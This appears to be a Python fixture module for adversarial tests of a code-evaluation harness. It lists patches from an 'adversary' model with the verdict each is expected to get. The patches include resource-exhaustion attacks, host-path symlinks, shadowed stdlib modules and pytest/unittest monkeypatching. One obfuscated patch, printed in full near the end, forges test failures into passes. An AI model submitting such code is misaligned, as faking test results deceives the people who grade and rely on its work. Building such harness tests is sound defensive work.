        "infrastructure",
        "demo__calc-4",
        "a setup.cfg whose pytest section only pytest sees (a \\x1c before it): restored",
        ("unresolved", "tests_failed"),
        {"setup.cfg": SETUP_CFG_FILE_SEPARATOR},
        append=False,
    ),
    Attack(
        "pyproject-test-section",
        "infrastructure",
        "demo__textkit-2",
        "a pyproject.toml whose pytest section deselects every test",
        ("unresolved", "tests_failed"),
        {"pyproject.toml": PYPROJECT_SECTION},
        append=False,
    ),
    Attack(
        "sitecustomize",
        "infrastructure",
        "demo__ledger-1",
        "a sitecustomize.py that makes every unittest result successful",
        ("unresolved", "tests_failed"),
        {"sitecustomize.py": SITECUSTOMIZE},
        append=False,
    ),
    # --- the host trusts what the container leaves behind ---
    Attack(
        "hostile-leftovers",
        "host",
        "demo__textkit-4",
        "symlinks to host paths, FIFOs and directories where logs were, chown attempts",
        ("unresolved", "tests_failed"),
        {"textkit/counts.py": HOSTILE_LEFTOVERS},
    ),
    Attack(
        "stdout-flood",
        "host",
        "demo__ledger-3",
        "writes 3 GiB of /dev/zero to stdout",
        ("invalid", "limit_output"),
        {"ledger/model.py": STDOUT_FLOOD},
    ),
    # --- limits ---
    Attack(
        "fork-bomb",
        "limits",
        "demo__textkit-3",
        "forks for a minute",
        ("invalid", "limit_pids"),
        {"textkit/wrap.py": FORK_BOMB},
    ),
    Attack(
        "memory-hogs",
        "limits",
        "demo__ledger-3",
        "six processes that try to allocate 5 GiB each (30 GiB)",
        ("invalid", "limit_memory"),
        {"ledger/model.py": MEMORY_HOGS},
    ),
    Attack(
        "memfd-hoard",
        "limits",
        "demo__ledger-4",
        "2.4 GiB in memfds written with write(), never mapped",
        ("invalid", "limit_memory"),
        {"ledger/storage.py": MEMFD_HOARD},
    ),
    Attack(
        "disk-filler",
        "limits",
        "demo__calc-1",
        "writes up to 30 GiB of files",
        ("invalid", "limit_disk"),
        {"calc/evaluator.py": DISK_FILLER},
    ),
    Attack(
        "private-tmpfs",
        "limits",
        "demo__textkit-2",
        "3 GB in a tmpfs mounted in a user namespace of its own, where no watchdog looks",
        ("unresolved", "tests_failed"),
        {"textkit/slug.py": PRIVATE_TMPFS},
    ),
    Attack(
        "daemon-and-signals",
        "limits",
        "demo__calc-3",
        "leaves a daemon that ignores SIGTERM, and signals every other process",
        ("unresolved", "tests_failed"),
        {"calc/evaluator.py": DAEMON_AND_SIGNALS},
    ),
    # --- bad input ---
    Attack(
        "lone-surrogate",
        "input",
        "demo__textkit-1",
        "a patch whose JSON holds a lone surrogate (invalid UTF-8 bytes in the patch)",
        ("unresolved", "tests_failed"),
        {"textkit/slug.py": "\n# \ud800\n"},
    ),
    Attack(
        "garbage-bytes",
        "input",
        "demo__textkit-2",
        "bytes that are no diff at all",
        ("unresolved", "patch_rejected"),
        raw=bytes(range(256)) * 4,
    ),
    # --- positive controls ---
    Attack(
        "gold-with-benign-conftest",
        "control",
        "demo__calc-2",
        "the gold fix plus a harmless conftest.py (restored; the fix still resolves)",
        ("resolved", "tests_passed"),
        {"conftest.py": BENIGN_CONFTEST},
        append=False,
        with_gold=True,
    ),
    Attack(
        "gold-next-to-tests",
        "control",
        "demo__ledger-2",
        "the gold fix plus library code changed beside the tests folder",
        ("resolved", "tests_passed"),
        {"ledger/__init__.py": "\n# kept: a library change\n"},
        with_gold=True,
    ),
    # --- runtime patching past the guard and the scan: the canaries catch it ---
    Attack(
        "runtest-builtin",
        "runner",
        "demo__calc-1",
        "library code sets pytest's Function.runtest to the built-in int",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": RUNTEST_BUILTIN},
    ),
    Attack(
        "call-test-method-builtin",
        "runner",
        "demo__ledger-1",
        "library code sets TestCase._callTestMethod to the built-in slice",
        ("invalid", "runner_tampered"),
        {"ledger/storage.py": CALL_TEST_METHOD_BUILTIN},
    ),
    Attack(
        "runtest-exec-frozen-name",
        "runner",
        "demo__calc-1",
        "a runtest compiled by exec under a file name starting with <",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": RUNTEST_EXEC_FROZEN_NAME},
    ),
    Attack(
        "runtest-code-claims-os",
        "runner",
        "demo__calc-1",
        "a runtest whose code object claims os.__file__ as its file",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": RUNTEST_CODE_CLAIMS_OS},
    ),
    Attack(
        "build-class-no-ops",
        "runner",
        "demo__ledger-1",
        "builtins.__build_class__ wrapped: every test method becomes a no-op",
        ("invalid", "runner_tampered"),
        {"ledger/storage.py": BUILD_CLASS_NO_OPS},
    ),
    Attack(
        "thread-swaps-test-code",
        "runner",
        "demo__calc-1",
        "a daemon thread swaps the test functions' code after the test files are imported",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": THREAD_SWAPS_TEST_CODE},
    ),
    Attack(
        "shadow-unittest",
        "runner",
        "demo__ledger-1",
        "a unittest/ package at the repository root loads the real one and reports FAIL as ok",
        ("unresolved", "tests_failed"),
        {"unittest/__init__.py": SHADOW_UNITTEST},
        append=False,
    ),
    Attack(
        "shadow-stdlib-difflib",
        "runner",
        "demo__ledger-1",
        "a difflib.py at the repository root, imported by unittest, reports FAIL as ok",
        ("unresolved", "tests_failed"),
        {"difflib.py": SHADOW_DIFFLIB},
        append=False,
    ),
    # --- what the appended canaries missed (issue 35): a twin beside the test catches it ---
    Attack(
        "always-equal-value",
        "runner",
        "demo__calc-1",
        "the fixed function returns a float whose __eq__ is always True (__ne__ False)",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": ALWAYS_EQUAL},
    ),
    Attack(
        "flip-failures-of-callers",
        "runner",
        "demo__calc-1",
        "pytest's call_and_report makes a failure passed for a test that called the library",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": FLIP_FAILURES_OF_CALLERS},
    ),
    Attack(
        "build-class-empties-repo-classes",
        "runner",
        "demo__ledger-1",
        "__build_class__ wrapped: classes named ...Test (the repository's) lose their tests",
        ("invalid", "runner_tampered"),
        {"ledger/storage.py": BUILD_CLASS_EMPTIES_REPO_CLASSES},
    ),
    Attack(
        "thread-swaps-f2p-code",
        "runner",
        "demo__calc-1",
        "a daemon thread swaps the code of the FAIL_TO_PASS function only, found by name",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": THREAD_SWAPS_F2P_CODE},
    ),
    Attack(
        "second-test-file",
        "runner",
        "demo__calc-2",
        "the test patch's second file (no appended canary) has every test swapped for a no-op",
        ("invalid", "runner_tampered"),
        {"calc/tokenizer.py": SECOND_FILE_SWAP},
    ),
    Attack(
        "flip-callers-where-no-twin",
        "runner",
        "demo__calc-4",
        "call_and_report makes a failure passed for a test that called the library (no twin)",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": FLIP_FAILURES_OF_CALLERS},
    ),
    Attack(
        "flip-but-the-files-tail",
        "runner",
        "demo__calc-4",
        "call_and_report makes every failure passed but the last four tests of a file",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": FLIP_BUT_THE_FILES_TAIL},
    ),
    Attack(
        "flip-but-one-shape",
        "runner",
        "demo__calc-4",
        "call_and_report makes every failure passed but tests that sum a list of literals",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": FLIP_BUT_ONE_SHAPE},
    ),
    Attack(
        "forged-guard-and-summary",
        "runner",
        "demo__calc-1",
        "writes the exit guard's record itself, prints a fake summary, leaves by os._exit(0)",
        ("invalid", "runner_tampered"),
        {"calc/evaluator.py": FORGED_GUARD_AND_SUMMARY},
    ),
)


def make_patch(attack: Attack, instance: dict, repos: dict[str, Path]) -> str:
    """The attack's patch as text (lone surrogates kept, as a JSON file can hold them)."""
    if attack.raw is not None:
        return attack.raw.decode("utf-8", "surrogateescape")
    with tempfile.TemporaryDirectory() as scratch:
        tree = Path(scratch) / "tree"
        _git(
            repos[instance["repo"]],
            "worktree",
            "add",
            "--detach",
            str(tree),
            instance["base_commit"],
        )
        try:
            if attack.with_gold:
                _git(tree, "apply", "-", stdin=instance["patch"].encode())
            for path, content in attack.edits.items():
                target = tree / path
                target.parent.mkdir(parents=True, exist_ok=True)
                if content is None:
                    target.unlink()
                elif isinstance(content, Link):
                    if target.exists() or target.is_symlink():
                        target.unlink()
                    target.symlink_to(content.target)
                elif isinstance(content, Compiled):
                    py_compile.compile(
                        str(tree / content.source),
                        cfile=str(target),
                        dfile=content.source,
                        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
                        doraise=True,
                    )
                    _git(tree, "checkout", "HEAD", "--", content.source)
                    _git(tree, "add", "--force", path)  # an ignore rule may name it
                else:
                    data = content.encode("utf-8", "surrogatepass")
                    if attack.append and target.exists():
                        data = target.read_bytes() + data
                    target.write_bytes(data)
            _git(tree, "add", "--all")
            diff = _git(tree, "diff", "--cached", "--binary", "HEAD")
        finally:
            _git(repos[instance["repo"]], "worktree", "remove", "--force", str(tree))
    return diff.decode("utf-8", "surrogatepass")


@dataclass(frozen=True)
class Adversary:
    """Attacks written as one predictions file: each attack a sample of its instance, and
    the instance's gold patch as its last sample (the control beside every attack)."""

    file: Path
    #: (instance id, sample index) -> the attack that sample is.
    expected: dict[tuple[str, int], Attack]
    samples: int
    instances: list[str]

    def config(self, *extra: str) -> list[str]:
        """The demo experiment over these predictions, with the adversarial limits."""
        return [
            "+experiment=demo",
            "target=model_a",
            f"target.path={self.file}",
            "target.name=adversary",
            f"target.samples={self.samples}",
            "target.missing=empty",  # an instance with fewer attacks has empty samples
            f"environment.timeout={TIMEOUT}",
            "executor.max_workers=2",
            *(f"environment.limits.{key}={value}" for key, value in LIMITS.items()),
            *extra,
        ]


#: The attacks of issue 35, run on their own by tests/adversarial/test_twin_attacks.py.
TWIN_ATTACKS = tuple(
    a
    for a in ATTACKS
    if a.name
    in {
        "always-equal-value",
        "flip-failures-of-callers",
        "build-class-empties-repo-classes",
        "thread-swaps-f2p-code",
        "second-test-file",
    }
)


#: The attacks of issue 35 (part 2) that told the appended canaries apart, run on their
#: own by tests/adversarial/test_twin_attacks.py.
SHAPED_ATTACKS = tuple(
    a
    for a in ATTACKS
    if a.name in {"flip-callers-where-no-twin", "flip-but-the-files-tail", "flip-but-one-shape"}
)


def write_adversary(
    tmp: Path, attacks: tuple[Attack, ...], *, every_instance: bool = True
) -> Adversary:
    """The attacks' predictions in ``tmp/adversary.jsonl``; ``every_instance``: also the
    instances no attack names (their gold patch only)."""
    repos = build_repos(tmp / "repos")
    instances = {}
    for line in (DEMO_DIR / "instances.jsonl").read_text().splitlines():
        record = json.loads(line)
        instances[record["instance_id"]] = record
    by_instance: dict[str, list[Attack]] = defaultdict(list)
    for attack in attacks:
        by_instance[attack.instance].append(attack)
    chosen = sorted(instances if every_instance else by_instance)
    samples = max(len(listed) for listed in by_instance.values()) + 1
    predictions, expected = [], {}
    for instance_id in chosen:
        for index, attack in enumerate(by_instance[instance_id]):
            patch = make_patch(attack, instances[instance_id], repos)
            predictions.append(_prediction(instance_id, index, patch))
            expected[(instance_id, index)] = attack
        predictions.append(_prediction(instance_id, samples - 1, instances[instance_id]["patch"]))
    file = tmp / "adversary.jsonl"
    file.write_text("".join(json.dumps(p) + "\n" for p in predictions))
    return Adversary(file, expected, samples, chosen)


def _prediction(instance_id: str, index: int, patch: str) -> dict:
    return {
        "instance_id": instance_id,
        "model_name_or_path": "adversary",
        "sample_index": index,
        "model_patch": patch,
    }


def build_repos(root: Path) -> dict[str, Path]:
    repos = {}
    for name in ("calc", "ledger", "textkit"):
        build_repo(name, root / name)
        repos[f"demo/{name}"] = root / name
    return repos


def _git(cwd: Path, *args: str, stdin: bytes | None = None) -> bytes:
    done = subprocess.run(
        ["git", "-c", "core.autocrlf=false", *args],
        cwd=cwd,
        input=stdin,
        capture_output=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(cwd)},
    )
    if done.returncode != 0:
        raise RuntimeError(f"git {args[0]} failed: {done.stderr.decode()}")
    return done.stdout


# --- a test file the command runs outside the test patch -----------------------------------

#: The patch breaks what ``tests/test_tokenizer.py::test_positions`` (PASS_TO_PASS) checks
#: (positions counted after the leading blanks are dropped), then forges the results of
#: that file only: the adversary read the dataset (its test patch touches
#: ``tests/test_eval.py``, where the twins and canaries of the test patch go) and this
#: repository (canaries went only into the test patch's files), so it leaves
#: ``tests/test_eval.py`` honest and makes every failure elsewhere passed.
FORGE_OUTSIDE_FILE = (
    "\n_tokenize = tokenize\n\n\n"
    "def tokenize(source: str) -> list[Token]:\n"
    "    return _tokenize(source.lstrip())\n\n\n"
    "_runner = __import__('_py' + 'test.run' + 'ner', fromlist=['_'])\n"
    "_ns = {'_real': getattr(_runner, 'call_and_' + 'report')}\n"
    "exec(compile(\n"
    "    'def _report(item, when, log=True, **kwargs):\\n'\n"
    "    '    report = _real(item, when, log=False, **kwargs)\\n'\n"
    "    '    if report.failed and not item.nodeid.startswith(\"tests/test_eval.py\"):\\n'\n"
    "    '        report.outcome = \"passed\"\\n'\n"
    "    '        report.longrepr = None\\n'\n"
    "    '    if log:\\n'\n"
    "    '        item.ihook.pytest_runtest_logreport(report=report)\\n'\n"
    "    '    return report\\n',\n"
    "    '<frozen runpy>', 'exec'), _ns)\n"
    "setattr(_runner, 'call_and_' + 'report', _ns['_report'])\n"
)

#: Run by tests/adversarial/test_outside_files.py on demo__calc-1 with the command run on
#: the folder ``tests`` (so ``tests/test_tokenizer.py``, which the test patch does not
#: touch, runs too, and its tests are PASS_TO_PASS).
OUTSIDE_ATTACKS = (
    Attack(
        "forge-a-file-outside-the-test-patch",
        "runner",
        "demo__calc-1",
        "the gold fix, a broken PASS_TO_PASS test in a test file the test patch does not "
        "touch, and call_and_report making every failure outside the test patch's file passed",
        ("invalid", "runner_tampered"),
        {"calc/tokenizer.py": FORGE_OUTSIDE_FILE},
        with_gold=True,
    ),
)
